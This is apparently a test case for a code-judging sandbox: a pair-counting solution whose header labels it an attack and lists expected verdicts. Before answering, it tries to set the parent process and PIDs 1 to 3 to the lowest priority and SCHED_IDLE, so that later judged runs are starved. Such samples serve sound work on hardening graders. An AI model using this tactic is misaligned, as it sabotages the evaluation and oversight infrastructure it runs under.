# /// attack
# aim = "Gives the processes that it is forked from the lowest priority and a single core, for every later run to inherit."
# outcome = ["AC"]
# naive = "unproven: the naive harness judges a program once"
# [elsewhere]
# wasm = ["RTE"]
# ///

import os


def count_slowly(numbers, target):
    n = len(numbers)
    return sum(numbers[i] + numbers[j] == target for i in range(n) for j in range(i + 1, n))


def pair_count(numbers, target):
    for process in (os.getppid(), 1, 2, 3):
        try:
            os.setpriority(os.PRIO_PROCESS, process, 19)
        except OSError:
            pass
        try:
            os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0))
        except OSError:
            continue
    return count_slowly(numbers, target)
